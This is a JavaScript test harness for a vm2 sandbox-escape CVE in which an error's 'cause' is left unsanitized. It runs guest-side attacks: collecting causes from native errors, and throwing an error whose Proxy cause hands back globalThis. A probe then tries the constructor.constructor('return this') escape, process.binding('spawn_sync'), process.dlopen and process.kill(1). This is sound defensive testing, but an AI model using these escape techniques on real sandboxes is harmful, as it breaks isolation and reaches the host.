// CVE-2026-47686 (GHSA-m283-3h24-438v), vm2: an error was cleaned, and the `cause` in it was not.
const attacks = {
  "causes of natives' errors": {
    ends: ["ok"],
    async run() {
      const got = [];
      const keep = (error) => {
        for (let left = 20; error && left > 0; left--) {
          got.push(error);
          for (const name of Reflect.ownKeys(error)) got.push(error[name]);
          error = error.cause;
        }
      };
      await Promise.all([
        fetch("http://127.0.0.1/").catch(keep),
        fetch("x:").catch(keep),
        fetch("http://a.invalid/").catch(keep),
        import("x").catch(keep),
        new Response("{").json().catch(keep),
        new Response(new Blob(["x"]).stream().pipeThrough(new DecompressionStream("gzip"))).text().catch(keep),
        crypto.subtle
          .importKey("pkcs8", new Uint8Array(9), { name: "ECDSA", namedCurve: "P-256" }, false, ["sign"])
          .catch(keep),
      ]);
      if (!got.some((value) => value instanceof Error)) return "no errors came";
      return probe(...got);
    },
  },
  "a cause that is thrown to the host": {
    ends: ["app-threw"],
    run() {
      throw new Error("outer", {
        cause: new Proxy(new Error("inner"), { get: (target, name) => (name === "cause" ? globalThis : target[name]) }),
      });
    },
  },
};

const names = Object.getOwnPropertyNames(globalThis);
/** What of a host can be named now, by this code or by what the attack got hold of: "held", or what was reached. */
function probe(...got) {
  const reached = [];
  const say = (what) => void reached.push(what);
  for (const value of [...got, console, fetch, process, import.meta, Buffer]) {
    try {
      const world = value?.constructor?.constructor?.("return this")();
      if (world !== undefined && world !== globalThis) say("a global object that is not the guest's");
    } catch {}
    if (!(value instanceof Error)) continue;
    const [text] =
      /\/(?:home|root|usr|tmp|var|etc|proc|opt|work|rustc)\/[^\s)]*|[\w/]+\.rs\b|\b(?:wasmtime|rquickjs|cargo|panicked)\b|node:internal/.exec(
        `${value.stack} ${value.message}`,
      ) ?? [];
    if (text !== undefined) say(`an error's text tells ${text}`);
  }
  for (const name of ["Deno", "Bun", "require", "module", "exports", "WebAssembly", "std", "os", "__bootstrap"]) {
    if ((0, eval)(`typeof ${name}`) !== "undefined") say(name);
  }
  if (process.mainModule !== undefined) say("process.mainModule");
  if (process.execPath !== "/node" || process.pid !== 1) say("another process");
  for (const open of [
    () => process.binding("fs"),
    () => process.binding("spawn_sync"),
    () => process.dlopen({}, "x"),
    () => process._linkedBinding("fs"),
    () => process.kill(1),
  ]) {
    try {
      say(`${open} gave ${open()}`);
    } catch (error) {
      if (!(error instanceof Error)) say(`${open} threw ${error}`);
    }
  }
  const more = Object.getOwnPropertyNames(globalThis).filter((name) => !names.includes(name));
  if (more.length > 0) say(`the globals ${more}`);
  return reached.length === 0 ? "held" : [...new Set(reached)].join(", ");
}

export default {
  async fetch(request) {
    const name = new URL(request.url).searchParams.get("attack");
    if (name === null) {
      return Response.json(Object.entries(attacks).map(([name, { ends, times = 1 }]) => ({ name, ends, times })));
    }
    return new Response((await attacks[name].run(request)) ?? "held");
  },
};
